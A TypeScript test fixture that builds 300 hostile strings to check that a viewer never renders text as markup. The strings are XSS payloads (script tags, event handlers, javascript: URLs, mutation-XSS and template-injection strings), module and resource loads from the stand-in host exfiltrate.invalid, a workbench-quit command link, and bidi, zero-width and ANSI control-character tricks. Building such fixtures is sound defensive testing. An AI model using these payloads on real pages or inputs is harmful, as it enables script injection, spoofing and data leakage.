// Texts that try to become more than text: 300 of them, each of which would count up `ranScripts` or call out if it were ever drawn as markup.

const call = "(window.top||window).ranScripts++";
const away = "https://exfiltrate.invalid";

const markup = (index: number): readonly string[] => [
  `<script>${call}</script>`,
  `<script type="module">import("${away}/${index}")</script>`,
  `</div></template><script>${call}</script>`,
  `<img src=x onerror="${call}">`,
  `<img src="${away}/${index}.png">`,
  `<svg onload="${call}"><script>${call}</script></svg>`,
  `<svg><use href="${away}/${index}.svg#a"></use></svg>`,
  `<iframe srcdoc="<script>parent.ranScripts++</script>"></iframe>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<a href="javascript:${call}">click ${index}</a>`,
  `<a href="command:workbench.action.quit">quit ${index}</a>`,
  `<link rel="stylesheet" href="${away}/${index}.css">`,
  `<style>@import "${away}/${index}.css"; * { display: none !important }</style>`,
  `<div style="background:url(${away}/${index})">styled</div>`,
  `<object data="${away}/${index}"></object><embed src="${away}/${index}">`,
  `<base href="${away}/"><form action="${away}"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${away}/${index}">`,
  `<video src="${away}/${index}" onerror="${call}" autoplay></video>`,
  `<details open ontoggle="${call}">open</details>`,
  `<input autofocus onfocus="${call}">`,
  `<body onload="${call}" onpageshow="${call}">`,
  `"><script>${call}</script>`,
  `' onmouseover='${call}' x='`,
  `\`\${${call}}\``,
  `{{${call}}} \${${call}} <%= ${call} %>`,
  `<!--?lit$${index}$--><img src=x onerror="${call}">`,
  `<template><img src=x onerror="${call}"></template>`,
  `<ts-button onclick="${call}">button</ts-button>`,
  `<touchstone-results onclick="${call}"></touchstone-results>`,
  `![image](${away}/${index}.png) [link](javascript:${call})`,
  `[reference]: ${away}/${index}\n![x][reference]`,
  `javascript:${call}//${index}`,
  `data:text/html,<script>parent.${call}</script>`,
  `&lt;script&gt;${call}&lt;/script&gt; &#60;img src=x onerror=${call}&#62;`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${call}">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `]]><script>${call}</script><![CDATA[`,
  `expression(${call}); background: url("${away}/${index}"); } * { color: red`,
  `vscode://file/${index} command:touchstone.run`,
  `constructor.constructor("${call}")() __proto__ ${index}`,
];

const characters = (index: number): readonly string[] => [
  `pass \u202Eliaf\u202C ${index}`,
  `\u2066isolated\u2069 \u2067right\u2069 ${index}`,
  `admin\u200B\u200C\u200D\uFEFF${index}`,
  `control \u0000\u0007\u001B[31mred\u001B[0m ${index}`,
  `line\u2028separator\u2029paragraph ${index}`,
  `tags \u{E0041}\u{E0042}\u{E0043} ${index}`,
  `lone \uD800 surrogate ${index}`,
  `${"\u0301".repeat(40)} marks ${index}`,
  `${"\u202E".repeat(500)} repeated ${index}`,
  `\r\rreturn\b\b\bback ${index}`,
];

/** 300 texts, no two alike. */
export const hostilePayloads: readonly string[] = Array.from({ length: 6 }, (_, round) => [
  ...markup(round).map((text) => `${text} ${round}`),
  ...characters(round).map((text) => `${text} ${round}`),
]).flat();
